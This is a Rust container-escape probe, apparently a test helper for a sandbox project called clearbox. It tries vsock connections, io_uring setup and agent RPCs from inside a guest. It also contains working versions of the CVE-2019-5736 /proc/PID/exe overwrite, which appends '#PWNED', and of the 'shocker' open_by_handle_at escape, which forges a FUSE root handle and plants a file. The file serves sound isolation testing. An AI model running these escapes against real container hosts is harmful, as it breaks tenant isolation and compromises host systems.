//! Runs inside a container (copied into its rootfs, linked statically) and tries to reach the
//! guest agent the ways a hostile workload would. One line per attempt, `OPEN`/`CONNECTED`/
//! `ANSWERED` marking a success (what the tests look for), errno names otherwise.
//!
//! `clearbox-attack-probe vsock`   socket() + connect() to every interesting CID and a range of
//!                                 ports (the agent's 1024 among them), stream/seqpacket/dgram
//! `clearbox-attack-probe io_uring` io_uring_setup (IORING_OP_SOCKET would bypass a socket filter)
//! `clearbox-attack-probe rpc`      every agent RPC through the real client, over vsock to CIDs
//!                                  1, 2, 3 port 1024
//! `clearbox-attack-probe exe SECS MARKER` CVE-2019-5736: for SECS seconds, opens
//!                                  `/proc/PID/exe` of every process whose command line holds
//!                                  MARKER (the runtime's own processes joining the container,
//!                                  e.g. for `exec`), then tries to write to the file once the
//!                                  process is gone (`OPENED` / `WROTE` lines)
//! `clearbox-attack-probe handle-root PATH` the "shocker" escape on virtio-fs: takes the FUSE
//!                                  file handle of PATH (a file on the share), rewrites its node
//!                                  id to 1 (the FUSE root: the share's export root) and opens
//!                                  it with open_by_handle_at; `OPENED` and the names it lists
//!                                  if that worked, `WROTE` if a file could be made there
//!
//! Always exits 0 after printing; the caller judges the lines.
#![allow(clippy::print_stdout)]

use std::os::fd::{FromRawFd, OwnedFd};
use std::time::Duration;

use clearbox_protocol::{AgentClient, ProcessId, ProcessSpec, RootfsLocation, Stream};

/// Hypervisor, local (loopback), host, the guest's own (clearbox gives every guest CID 3),
/// another guest, VMADDR_CID_ANY.
const CIDS: [u32; 6] = [0, 1, 2, 3, 4, u32::MAX];
const PORTS: [u32; 9] = [1024, 1, 22, 1023, 1025, 2048, 10000, 65535, u32::MAX - 1];

fn errno_name(e: i32) -> String {
    match e {
        libc::EACCES => "EACCES".into(),
        libc::EPERM => "EPERM".into(),
        libc::EAFNOSUPPORT => "EAFNOSUPPORT".into(),
        libc::ECONNREFUSED => "ECONNREFUSED".into(),
        libc::ECONNRESET => "ECONNRESET".into(),
        libc::ENODEV => "ENODEV".into(),
        libc::EADDRNOTAVAIL => "EADDRNOTAVAIL".into(),
        libc::ENETUNREACH => "ENETUNREACH".into(),
        libc::ETIMEDOUT => "ETIMEDOUT".into(),
        libc::EINVAL => "EINVAL".into(),
        libc::ENOSYS => "ENOSYS".into(),
        libc::ESOCKTNOSUPPORT => "ESOCKTNOSUPPORT".into(),
        libc::EPROTONOSUPPORT => "EPROTONOSUPPORT".into(),
        other => format!("errno{other}"),
    }
}

fn last_errno() -> String {
    errno_name(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
}

/// A connected vsock stream, or the reason there is none.
fn vsock_connect(ty: i32, cid: u32, port: u32) -> Result<OwnedFd, String> {
    // SAFETY: socket(2) with integers.
    let fd = unsafe { libc::socket(libc::AF_VSOCK, ty | libc::SOCK_CLOEXEC, 0) };
    if fd < 0 {
        return Err(format!("socket={}", last_errno()));
    }
    // SAFETY: `fd` was just created and is owned by nothing else.
    let owned = unsafe { OwnedFd::from_raw_fd(fd) };
    let tv = libc::timeval {
        tv_sec: 2,
        tv_usec: 0,
    };
    // SAFETY: setsockopt reads the `timeval` on the stack for the given length (bounds a
    // connect to an unresponsive peer).
    unsafe {
        libc::setsockopt(
            fd,
            libc::AF_VSOCK,
            6, // SO_VM_SOCKETS_CONNECT_TIMEOUT
            &tv as *const libc::timeval as *const libc::c_void,
            std::mem::size_of::<libc::timeval>() as libc::socklen_t,
        )
    };
    // SAFETY: sockaddr_vm is plain data; all-zero is a valid starting value.
    let mut sa: libc::sockaddr_vm = unsafe { std::mem::zeroed() };
    sa.svm_family = libc::AF_VSOCK as libc::sa_family_t;
    sa.svm_cid = cid;
    sa.svm_port = port;
    // SAFETY: connect reads `sa` for its size; it lives on the stack for the call.
    let rc = unsafe {
        libc::connect(
            fd,
            &sa as *const libc::sockaddr_vm as *const libc::sockaddr,
            std::mem::size_of::<libc::sockaddr_vm>() as libc::socklen_t,
        )
    };
    if rc < 0 {
        return Err(format!("OPEN connect={}", last_errno()));
    }
    Ok(owned)
}

fn vsock() {
    for (tname, ty) in [
        ("stream", libc::SOCK_STREAM),
        ("seqpacket", libc::SOCK_SEQPACKET),
        ("dgram", libc::SOCK_DGRAM),
    ] {
        for cid in CIDS {
            for port in PORTS {
                let r = match vsock_connect(ty, cid, port) {
                    Ok(_) => "OPEN CONNECTED".to_string(),
                    Err(e) => e,
                };
                println!("vsock type={tname} cid={cid} port={port} {r}");
            }
        }
    }
}

/// struct file_handle with room for a FUSE handle (3 u32: node id high/low, generation).
#[repr(C)]
struct FileHandle {
    handle_bytes: u32,
    handle_type: i32,
    f_handle: [u32; 4],
}

fn handle_root(path: &str) {
    let Ok(cpath) = std::ffi::CString::new(path) else {
        println!("name_to_handle_at=EINVAL");
        return;
    };
    let mut h = FileHandle {
        handle_bytes: 16,
        handle_type: 0,
        f_handle: [0; 4],
    };
    let mut mount_id: libc::c_int = 0;
    // SAFETY: name_to_handle_at reads the NUL-terminated path and writes at most
    // `handle_bytes` (16) bytes of handle into `h` and one int into `mount_id`.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            cpath.as_ptr(),
            &mut h as *mut FileHandle,
            &mut mount_id as *mut libc::c_int,
            0,
        )
    };
    if rc != 0 {
        println!("name_to_handle_at={}", last_errno());
        return;
    }
    println!("handle type={:#x} bytes={}", h.handle_type, h.handle_bytes);
    // FUSE's handle: node id (high, low), generation. The root node is 1, generation 0.
    h.f_handle[0] = 0;
    h.f_handle[1] = 1;
    h.f_handle[2] = 0;
    let Ok(file) = std::fs::File::open(path) else {
        println!("open={}", last_errno());
        return;
    };
    use std::os::fd::AsRawFd;
    // SAFETY: open_by_handle_at reads the handle (its size is in its header) and returns a
    // new descriptor or -1.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            file.as_raw_fd(),
            &mut h as *mut FileHandle,
            libc::O_RDONLY | libc::O_DIRECTORY,
        )
    };
    if fd < 0 {
        println!("open_by_handle_at={}", last_errno());
        return;
    }
    // SAFETY: open_by_handle_at returned a new descriptor that nothing else owns.
    let root = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(fd as i32) };
    let listed = std::fs::read_dir(format!("/proc/self/fd/{}", root.as_raw_fd()))
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect::<Vec<_>>()
                .join(",")
        })
        .unwrap_or_default();
    println!("open_by_handle_at OPENED [{listed}]");
    let planted = format!("/proc/self/fd/{}/PLANTED", root.as_raw_fd());
    match std::fs::write(&planted, "x") {
        Ok(()) => println!("export root WROTE"),
        Err(e) => println!(
            "export root write={}",
            errno_name(e.raw_os_error().unwrap_or(0))
        ),
    }
}

fn io_uring() {
    let mut params = [0u8; 120];
    // SAFETY: io_uring_setup writes at most the 120-byte struct io_uring_params we pass.
    let rc = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4u32, params.as_mut_ptr()) };
    if rc >= 0 {
        println!("io_uring_setup OPEN fd={rc}");
    } else {
        println!("io_uring_setup={}", last_errno());
    }
}

/// Every RPC of the agent API, with the arguments an attacker would use (no container id, or a
/// plausible one).
fn rpcs(c: &AgentClient) -> Vec<(&'static str, Result<(), String>)> {
    let plain = ProcessId {
        container_id: String::new(),
        exec_id: "x".into(),
    };
    let init = ProcessId::container("container");
    let e = |r: Result<(), clearbox_protocol::AgentError>| r.map_err(|e| e.to_string());
    let spec = ProcessSpec::new(["/bin/sh", "-c", "echo escaped"]);
    vec![
        ("Check", e(c.check().map(drop))),
        ("Version", e(c.version().map(drop))),
        (
            "CreateContainer",
            clearbox_protocol::GuestSpec::from_json_text(
                r#"{"process":{"args":["/bin/sh"],"cwd":"/","user":{"uid":0,"gid":0}}}"#.into(),
            )
            .map_err(|e| e.to_string())
            .and_then(|spec| {
                e(c.create_container(
                    "evil",
                    &spec,
                    &RootfsLocation::GuestPath("/".into()),
                    false,
                    false,
                ))
            }),
        ),
        ("StartContainer", e(c.start_container("container"))),
        ("RemoveContainer", e(c.remove_container("container", true))),
        ("PauseContainer", e(c.pause_container("container"))),
        ("ResumeContainer", e(c.resume_container("container"))),
        ("ExecProcess", e(c.exec(&plain, &spec))),
        (
            "ExecProcess(container)",
            e(c.exec(&ProcessId::container_exec("container", "x"), &spec)),
        ),
        ("SignalProcess", e(c.signal(&init, 9, true))),
        (
            "WaitProcess",
            e(c.wait(&init, Some(Duration::from_millis(10))).map(drop)),
        ),
        ("ListProcesses", e(c.list_processes("container").map(drop))),
        ("WriteStdin", e(c.write_stdin(&init, b"x").map(drop))),
        ("CloseStdin", e(c.close_stdin(&init))),
        (
            "ReadStdout",
            e(
                c.read(&init, Stream::Stdout, 0, Some(Duration::from_millis(10)))
                    .map(drop),
            ),
        ),
        (
            "ReadStderr",
            e(
                c.read(&init, Stream::Stderr, 0, Some(Duration::from_millis(10)))
                    .map(drop),
            ),
        ),
        ("TtyWinResize", e(c.tty_resize(&init, 1, 1))),
        ("Stats", e(c.stats("container").map(drop))),
        ("Shutdown", e(c.shutdown())),
    ]
}

fn rpc() {
    for cid in [1, 2, 3] {
        match vsock_connect(libc::SOCK_STREAM, cid, clearbox_protocol::AGENT_VSOCK_PORT) {
            Err(e) => println!("rpc cid={cid} all-refused {e}"),
            Ok(fd) => match AgentClient::new(fd) {
                Err(e) => println!("rpc cid={cid} CONNECTED client={e}"),
                Ok(c) => {
                    let c = c.with_timeout(Duration::from_secs(3));
                    for (name, r) in rpcs(&c) {
                        match r {
                            Ok(()) => println!("rpc cid={cid} {name} ANSWERED ok"),
                            Err(e) => println!("rpc cid={cid} {name} CONNECTED error={e}"),
                        }
                    }
                }
            },
        }
    }
}

/// Watches for processes whose command line holds `marker`; opens their executable through
/// `/proc/PID/exe` and keeps trying to reopen it for writing (through `/proc/self/fd`) and
/// append to it, which succeeds once the process is gone unless the file is protected.
fn exe(duration: Duration, marker: &[u8]) {
    use std::io::Write;
    let me = std::process::id().to_string();
    let end = std::time::Instant::now() + duration;
    let mut opened: Vec<(String, std::fs::File)> = Vec::new();
    let mut seen = std::collections::HashSet::new();
    while std::time::Instant::now() < end {
        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name == me || !name.bytes().all(|b| b.is_ascii_digit()) || seen.contains(&name) {
                continue;
            }
            let Ok(mut cmdline) = std::fs::read(format!("/proc/{name}/cmdline")) else {
                continue;
            };
            // Arguments are NUL-separated: match the marker against them joined by spaces.
            cmdline
                .iter_mut()
                .filter(|b| **b == 0)
                .for_each(|b| *b = b' ');
            if marker.is_empty() || !cmdline.windows(marker.len()).any(|w| w == marker) {
                continue;
            }
            if let Ok(f) = std::fs::File::open(format!("/proc/{name}/exe")) {
                println!("exe OPENED pid={name}");
                seen.insert(name.clone());
                opened.push((name, f));
            }
        }
        opened.retain(|(pid, f)| {
            let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(f));
            match std::fs::OpenOptions::new().append(true).open(&path) {
                Ok(mut w) => match w.write_all(b"#PWNED") {
                    Ok(()) => {
                        println!("exe WROTE pid={pid}");
                        false
                    }
                    Err(e) => {
                        println!("exe write-refused pid={pid} {e}");
                        false
                    }
                },
                // ETXTBSY while the process still runs the file: try again later.
                Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => true,
                Err(e) => {
                    println!("exe open-for-write-refused pid={pid} {e}");
                    false
                }
            }
        });
        // No sleep: the runtime's processes live for milliseconds.
        std::thread::yield_now();
    }
    for (pid, _) in opened {
        println!("exe still-busy pid={pid}");
    }
}

fn main() {
    match std::env::args().nth(1).as_deref() {
        Some("vsock") => vsock(),
        Some("io_uring") => io_uring(),
        Some("rpc") => rpc(),
        Some("handle-root") => handle_root(&std::env::args().nth(2).unwrap_or_default()),
        Some("exe") => {
            let secs = std::env::args()
                .nth(2)
                .and_then(|s| s.parse().ok())
                .unwrap_or(10);
            let marker = std::env::args().nth(3).unwrap_or_default();
            exe(Duration::from_secs(secs), marker.as_bytes());
        }
        _ => {
            eprintln!(
                "usage: clearbox-attack-probe vsock|io_uring|rpc|exe SECS MARKER|handle-root PATH"
            );
            std::process::exit(2);
        }
    }
}
